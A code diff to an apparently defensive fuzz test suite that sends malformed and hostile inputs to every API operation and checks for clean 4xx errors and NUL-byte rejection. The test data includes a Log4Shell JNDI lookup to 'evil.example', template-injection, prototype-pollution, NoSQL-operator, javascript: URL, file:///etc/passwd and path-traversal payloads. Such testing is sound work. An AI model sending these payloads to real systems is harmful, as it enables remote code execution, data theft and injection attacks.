@@ -40,7 +40,9 @@ interface Caller {
   headers: Record<string, string>;
 }
 
-const SEED = 20_260_101;
+// Fixed so a failure reproduces; BAD_INPUT_SEED and BAD_INPUT_RUNS explore further.
+const SEED = Number(process.env.BAD_INPUT_SEED ?? 20_260_101);
+const RUNS = Number(process.env.BAD_INPUT_RUNS ?? 900);
 const UNSAFE = new Set<Method>(['POST', 'PUT', 'PATCH', 'DELETE']);
 
 let t: TestApp;
@@ -62,7 +64,10 @@ beforeAll(async () => {
   anonymous = { name: 'anonymous', headers: { cookie: `__Host-kinship-csrf=${anonymousToken}`, 'x-csrf-token': anonymousToken } };
 
   const doc = (await t.app.inject({ method: 'GET', url: '/api/openapi.json' })).json() as {
-    paths: Record<string, Record<string, { requestBody?: { content: Record<string, { schema: JsonSchema }> }; parameters?: { in: string; name: string }[] }>>;
+    paths: Record<
+      string,
+      Record<string, { requestBody?: { content: Record<string, { schema: JsonSchema }> }; parameters?: { in: string; name: string }[] }>
+    >;
   };
   operations = [];
   const fields = new Set<string>();
@@ -125,7 +130,12 @@ function problemWith(response: LightMyRequestResponse): string | null {
   }
   const code = body?.error?.code;
   const message = body?.error?.message;
-  if (typeof code !== 'string' || !(ERROR_CODES as readonly string[]).includes(code) || typeof message !== 'string' || message.trim() === '') {
+  if (
+    typeof code !== 'string' ||
+    !(ERROR_CODES as readonly string[]).includes(code) ||
+    typeof message !== 'string' ||
+    message.trim() === ''
+  ) {
     return `bad error body ${response.statusCode}: ${response.body.slice(0, 200)}`;
   }
   return null;
@@ -155,6 +165,7 @@ const HOSTILE_STRINGS = [
   '\u0000',
   'nul\u0000byte',
   '%00',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, literally.
   '${jndi:ldap://evil.example/a}',
   '{{7*7}}',
   '__proto__',
@@ -206,7 +217,10 @@ const wrongTypedBody = (fieldNames: string[]) =>
 const hostileQuery = fc
   .array(
     fc.tuple(
-      fc.oneof(fc.constantFrom('q', 'before', 'limit', '__proto__', 'constructor', '__proto__[admin]', 'q[]', 'before[0]'), fc.string({ maxLength: 10 })),
+      fc.oneof(
+        fc.constantFrom('q', 'before', 'limit', '__proto__', 'constructor', '__proto__[admin]', 'q[]', 'before[0]'),
+        fc.string({ maxLength: 10 }),
+      ),
       anyString,
     ),
     { minLength: 1, maxLength: 4 },
@@ -215,12 +229,18 @@ const hostileQuery = fc
 
 /** Plausible values for fields whose name says what they hold, so shaped bodies often get past validation. */
 const PLAUSIBLE: Record<string, fc.Arbitrary<unknown>> = {
-  email: fc.oneof(fc.emailAddress(), fc.constantFrom('admin@example.org', 'ADMIN@EXAMPLE.ORG', 'a@b', 'a\u0000@example.org', '@example.org')),
+  email: fc.oneof(
+    fc.emailAddress(),
+    fc.constantFrom('admin@example.org', 'ADMIN@EXAMPLE.ORG', 'a@b', 'a\u0000@example.org', '@example.org'),
+  ),
   password: fc.string({ minLength: 12, maxLength: 40 }),
   currentPassword: fc.string({ minLength: 1, maxLength: 40 }),
   newPassword: fc.string({ minLength: 12, maxLength: 40 }),
   token: fc.string({ minLength: 20, maxLength: 60 }),
-  code: fc.oneof(fc.integer({ min: 0, max: 999_999 }).map((n) => String(n).padStart(6, '0')), fc.constantFrom('abcd-2345', 'ABCD-2345')),
+  code: fc.oneof(
+    fc.integer({ min: 0, max: 999_999 }).map((n) => String(n).padStart(6, '0')),
+    fc.constantFrom('abcd-2345', 'ABCD-2345'),
+  ),
   timezone: fc.constantFrom('UTC', 'America/New_York', 'Europe/Madrid', 'Mars/Olympus_Mons', 'Etc/GMT+14', 'utc', '../../etc/localtime'),
   // Turning this on would lock the admin out of the rest of the run (staff must enrol first).
   requireStaffMfa: fc.constant(false),
@@ -229,7 +249,9 @@ const PLAUSIBLE: Record<string, fc.Arbitrary<unknown>> = {
 function stringFor(schema: JsonSchema): fc.Arbitrary<string> {
   if (schema.format === 'uuid') return fc.uuid();
   if (schema.format === 'date-time') {
-    return fc.date({ min: new Date('0001-01-01T00:00:00Z'), max: new Date('9999-12-31T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString());
+    return fc
+      .date({ min: new Date('0001-01-01T00:00:00Z'), max: new Date('9999-12-31T00:00:00Z'), noInvalidDate: true })
+      .map((d) => d.toISOString());
   }
   if (schema.format === 'uri') return fc.oneof(fc.webUrl(), fc.constantFrom('javascript:alert(1)', 'file:///etc/passwd', 'http://'));
   return fc.string({ minLength: schema.minLength ?? 0, maxLength: Math.min(schema.maxLength ?? 60, 120) });
@@ -250,7 +272,11 @@ function shaped(schema: JsonSchema, name = ''): fc.Arbitrary<unknown> {
     case 'array':
       return fc.array(shaped(schema.items ?? {}, name), { minLength: schema.minItems ?? 0, maxLength: Math.min(schema.maxItems ?? 4, 4) });
     case 'string':
-      return fc.oneof({ weight: 3, arbitrary: stringFor(schema) }, { weight: 1, arbitrary: hostileString }, { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) });
+      return fc.oneof(
+        { weight: 3, arbitrary: stringFor(schema) },
+        { weight: 1, arbitrary: hostileString },
+        { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
+      );
     case 'boolean':
       return fc.boolean();
     case 'integer':
@@ -295,7 +321,16 @@ const FIXED_BODIES: [string, string][] = [
   ['arrays where strings go', '{"email":[],"password":[],"token":[],"code":[],"reason":[],"purpose":[]}'],
   ['objects where strings go', '{"email":{},"password":{"$ne":null},"token":{"$gt":""},"code":{}}'],
   ['huge string field', JSON.stringify({ email: 'a'.repeat(60_000) })],
-  ['NUL bytes', JSON.stringify({ email: 'a\u0000@example.org', password: 'p\u0000'.repeat(8), alias: 'nul\u0000', token: '\u0000'.repeat(30), q: '\u0000' })],
+  [
+    'NUL bytes',
+    JSON.stringify({
+      email: 'a\u0000@example.org',
+      password: 'p\u0000'.repeat(8),
+      alias: 'nul\u0000',
+      token: '\u0000'.repeat(30),
+      q: '\u0000',
+    }),
+  ],
 ];
 const INVALID_JSON = ['{', '{"email":', "{'email':'a'}", '{"a":1,}', 'undefined', 'NaN', '\u0000', '{"a":"\\u00"}', '\ufeff{}x'];
 
@@ -378,11 +413,13 @@ describe('every operation in the OpenAPI document', () => {
               if (problem) throw new Error(`${op.method} ${op.path}: ${problem}`);
               // No random id names a real object, and a body that breaks the schema is never accepted.
               if (op.hasPathParams && response.statusCode < 400) throw new Error(`${response.statusCode} for ${op.method} ${op.path}`);
-              if (op.hasBody && body.violates && response.statusCode < 400) throw new Error(`${response.statusCode} for ${op.method} ${op.path}`);
-              if (response.statusCode === 400 && response.json().error.code === 'VALIDATION_FAILED') validationSeen.add(`${op.method} ${op.path}`);
+              if (op.hasBody && body.violates && response.statusCode < 400)
+                throw new Error(`${response.statusCode} for ${op.method} ${op.path}`);
+              if (response.statusCode === 400 && response.json().error.code === 'VALIDATION_FAILED')
+                validationSeen.add(`${op.method} ${op.path}`);
             },
           ),
-          { seed: callerName === 'admin' ? SEED : SEED + 1, numRuns: 900 },
+          { seed: callerName === 'admin' ? SEED : SEED + 1, numRuns: RUNS },
         );
         if (callerName === 'admin') {
           // The admin's requests reached validation on (nearly) every route with a body or parameters.
@@ -390,7 +427,7 @@ describe('every operation in the OpenAPI document', () => {
           const missed = validated.filter((o) => !validationSeen.has(`${o.method} ${o.path}`));
           expect(missed.map((o) => `${o.method} ${o.path}`)).toEqual([]);
         }
-      });
+      }, 300_000);
     });
   }
 
@@ -400,7 +437,14 @@ describe('every operation in the OpenAPI document', () => {
   });
 
   it('answers malformed URLs and unknown routes with a 4xx JSON error', async () => {
-    for (const url of ['/api/%', '/api/people/%E0%A4%A', '/api/does-not-exist', `/api/people/${'a'.repeat(5_000)}`, '/api//people', '/api/people/%00']) {
+    for (const url of [
+      '/api/%',
+      '/api/people/%E0%A4%A',
+      '/api/does-not-exist',
+      `/api/people/${'a'.repeat(5_000)}`,
+      '/api//people',
+      '/api/people/%00',
+    ]) {
       for (const caller of [anonymous, admin]) {
         for (const method of ['GET', 'POST', 'DELETE'] as const) {
           const response = await send(caller, method, url, method === 'GET' ? undefined : '{}');
@@ -410,5 +454,23 @@ describe('every operation in the OpenAPI document', () => {
       }
     }
     expectNoIssues();
+  });
+});
+
+describe('NUL characters (PostgreSQL text cannot hold them)', () => {
+  it('are refused with a 400 naming the field, before anything reaches the database', async () => {
+    const cases: [Caller, Method, string, unknown, string][] = [
+      [anonymous, 'POST', '/api/auth/sign-in', { email: 'a\u0000@example.org', password: 'anything at all' }, 'body.email'],
+      [admin, 'PATCH', '/api/me/profile', { legalName: 'Ada\u0000Lovelace' }, 'body.legalName'],
+      [admin, 'PATCH', '/api/admin/settings', { crisisLines: [{ name: 'Line\u0000' }] }, 'body.crisisLines.0.name'],
+      [admin, 'GET', '/api/people?q=a%00b', undefined, 'query.q'],
+    ];
+    for (const [caller, method, url, body, path] of cases) {
+      const response = await send(caller, method, url, body === undefined ? undefined : JSON.stringify(body));
+      expect(response.statusCode, url).toBe(400);
+      expect(response.json().error).toMatchObject({ code: 'VALIDATION_FAILED', fields: [{ path }] });
+    }
+    const settings = (await t.app.inject({ method: 'GET', url: '/api/admin/settings', headers: admin.headers })).json();
+    expect(JSON.stringify(settings)).not.toContain('\\u0000');
   });
 });
